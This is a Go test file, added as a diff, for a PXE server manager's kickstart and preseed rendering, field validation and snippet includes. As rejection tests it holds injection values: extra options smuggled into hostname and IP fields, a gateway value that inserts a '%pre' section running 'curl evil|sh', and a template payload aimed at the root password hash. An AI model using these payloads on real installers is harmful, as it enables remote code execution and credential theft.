@@ -0,0 +1,192 @@
+package pxe
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"pxe-manager/database"
+)
+
+func testContext(content string) *RenderContext {
+	return &RenderContext{
+		Server: database.Server{
+			Serial: "S1", Hostname: "node-1.example.com", MACAddress: "aa:bb:cc:dd:ee:01",
+			LanNic: "eth0", IPAddress: "10.0.0.5", Gateway: "10.0.0.1",
+		},
+		Template: database.ConfigTemplate{Name: "centos7", SystemType: "centos", SystemVersion: "7", ConfigContent: content},
+		Settings: DefaultSettings(),
+	}
+}
+
+func TestValidateServerFields(t *testing.T) {
+	valid := []database.Server{
+		{},
+		{Hostname: "node-1", LanNic: "enp3s0f1", IPAddress: "10.0.0.5", Gateway: "10.0.0.1"},
+		{Hostname: "a.b-c.example.com", LanNic: "bond0.100", IPAddress: "fd00::5", Gateway: "fd00::1"},
+	}
+	for _, s := range valid {
+		if err := ValidateServerFields(&s); err != nil {
+			t.Errorf("%+v: %v", s, err)
+		}
+	}
+	invalid := []database.Server{
+		{Hostname: "h --bootproto=dhcp --device=eth9"},
+		{Hostname: "-leading"},
+		{Hostname: "a..b"},
+		{Hostname: `h"`},
+		{Hostname: strings.Repeat("a", 64)},
+		{LanNic: "eth0 --noipv6"},
+		{LanNic: "eth0=1"},
+		{IPAddress: "10.0.0.5 --nameserver=1.2.3.4"},
+		{IPAddress: "10.0.0.5/24"},
+		{Gateway: "gw"},
+	}
+	for _, s := range invalid {
+		if err := ValidateServerFields(&s); !errors.Is(err, ErrInvalidServerField) {
+			t.Errorf("%+v: err = %v, want ErrInvalidServerField", s, err)
+		}
+	}
+}
+
+// 上线前写入数据库的非法字段在渲染时被拦截，不会拼接进 network 指令
+func TestKickstartRejectsInjectedOptions(t *testing.T) {
+	ctx := testContext("install\n")
+	out, err := GenerateKickstart(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(out, "network --hostname=node-1.example.com --device=eth0 --bootproto=static --ip=10.0.0.5 --gateway=10.0.0.1\n") {
+		t.Fatalf("network line missing:\n%s", out)
+	}
+
+	for _, mutate := range []func(s *database.Server){
+		func(s *database.Server) { s.Hostname = "h --bootproto=dhcp --device=eth9" },
+		func(s *database.Server) { s.LanNic = "eth0 --activate" },
+		func(s *database.Server) { s.IPAddress = "10.0.0.5 --nameserver=6.6.6.6" },
+		func(s *database.Server) { s.Gateway = "10.0.0.1\n%pre\ncurl evil|sh\n%end" },
+	} {
+		ctx := testContext("install\n")
+		mutate(&ctx.Server)
+		if _, err := GenerateKickstart(ctx); !errors.Is(err, ErrInvalidServerField) {
+			t.Errorf("kickstart %+v: err = %v", ctx.Server, err)
+		}
+		if _, err := GeneratePreseed(ctx); !errors.Is(err, ErrInvalidServerField) {
+			t.Errorf("preseed %+v: err = %v", ctx.Server, err)
+		}
+	}
+}
+
+func snippetLookup(snippets map[string]string) SnippetLookup {
+	return func(name string) (string, error) {
+		if c, ok := snippets[name]; ok {
+			return c, nil
+		}
+		return "", fmt.Errorf("%w: %s", ErrSnippetNotFound, name)
+	}
+}
+
+func renderErrorOf(t *testing.T, err error) *RenderError {
+	t.Helper()
+	var re *RenderError
+	if !errors.As(err, &re) {
+		t.Fatalf("err = %v (%T), want *RenderError", err, err)
+	}
+	return re
+}
+
+func TestRender(t *testing.T) {
+	ctx := testContext("")
+	ctx.Vars = map[string]interface{}{"disk": "sda", "swap": int64(0)}
+	out, err := Render(`part / --ondisk={{ .Vars.disk }} # {{ .Server.Hostname | upper }}
+{{ index .Vars "swap" | default 4096 }} {{ quote "it's" }}`, ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "part / --ondisk=sda # NODE-1.EXAMPLE.COM\n4096 'it'\\''s'"; out != want {
+		t.Fatalf("out = %q, want %q", out, want)
+	}
+	// Agent 上报的字段中的 {{ }} 不会被解析，控制字符替换为空格
+	ctx.Server.CPUModel = "{{ .Settings.RootPasswordHash }}\n%post"
+	if out, err := Render("{{ .Server.CPUModel }}", ctx); err != nil || out != "{{ .Settings.RootPasswordHash }} %post" {
+		t.Fatalf("out = %q, %v", out, err)
+	}
+}
+
+func TestRenderErrorPosition(t *testing.T) {
+	ctx := testContext("")
+	// 解析错误只有行号
+	re := renderErrorOf(t, ParseTemplate("line1\nline2 {{ if }}\n"))
+	if re.Line != 2 || re.Snippet != "" || re.Message == "" {
+		t.Fatalf("parse error = %+v", re)
+	}
+	// missingkey=error：引用未定义的变量报错，并定位到行与列
+	_, err := Render("install\n  x={{ .Vars.missing }}\n", ctx)
+	re = renderErrorOf(t, err)
+	if re.Line != 2 || re.Column == 0 || !strings.Contains(re.Message, `"missing"`) || strings.HasPrefix(re.Message, "executing") {
+		t.Fatalf("exec error = %+v", re)
+	}
+	if !strings.Contains(re.Error(), "第 2 行") {
+		t.Fatalf("Error() = %q", re.Error())
+	}
+	_, err = Render("{{ .Server.NoSuchField }}", ctx)
+	if re := renderErrorOf(t, err); re.Line != 1 {
+		t.Fatalf("unknown field = %+v", re)
+	}
+}
+
+func TestRenderIncludes(t *testing.T) {
+	ctx := testContext("")
+	ctx.Vars = map[string]interface{}{"disk": "sda"}
+	ctx.Snippets = snippetLookup(map[string]string{
+		"disks":  "clearpart --all\n{{ include \"part\" }}",
+		"part":   "part / --ondisk={{ .Vars.disk }}",
+		"broken": "ok\nok\n  {{ .Vars.nope }}",
+		"outer":  "{{ include \"broken\" }}",
+		"a":      "{{ include \"b\" }}",
+		"b":      "{{ include \"a\" }}",
+	})
+	out, err := Render(`{{ include "disks" }}`, ctx)
+	if err != nil || out != "clearpart --all\npart / --ondisk=sda" {
+		t.Fatalf("out = %q, %v", out, err)
+	}
+
+	// 片段内的错误报告片段名与片段内的行号，而不是外层模板的位置
+	_, err = Render("install\n{{ include \"outer\" }}", ctx)
+	if re := renderErrorOf(t, err); re.Snippet != "broken" || re.Line != 3 || re.Column == 0 {
+		t.Fatalf("snippet error = %+v", re)
+	}
+
+	_, err = Render(`{{ include "a" }}`, ctx)
+	if err == nil || !strings.Contains(err.Error(), ErrIncludeCycle.Error()+": a → b → a") {
+		t.Fatalf("cycle: err = %v", err)
+	}
+
+	_, err = Render(`{{ include "missing" }}`, ctx)
+	if !strings.Contains(err.Error(), ErrSnippetNotFound.Error()) {
+		t.Fatalf("missing snippet: err = %v", err)
+	}
+	ctx.Snippets = nil
+	if _, err := Render(`{{ include "disks" }}`, ctx); err == nil {
+		t.Fatal("include without lookup succeeded")
+	}
+}
+
+func TestRenderIncludeDepth(t *testing.T) {
+	ctx := testContext("")
+	snippets := map[string]string{}
+	for i := 0; i < maxIncludeDepth; i++ {
+		snippets[fmt.Sprint("s", i)] = fmt.Sprintf("{{ include \"s%d\" }}", i+1)
+	}
+	snippets[fmt.Sprint("s", maxIncludeDepth)] = "leaf"
+	ctx.Snippets = snippetLookup(snippets)
+	_, err := Render(`{{ include "s0" }}`, ctx)
+	if err == nil || !strings.Contains(err.Error(), fmt.Sprint(maxIncludeDepth)) {
+		t.Fatalf("depth %d: err = %v", maxIncludeDepth+1, err)
+	}
+	// 恰好 maxIncludeDepth 层可以渲染
+	if out, err := Render(`{{ include "s1" }}`, ctx); err != nil || out != "leaf" {
+		t.Fatalf("depth %d: %q, %v", maxIncludeDepth, out, err)
+	}
+}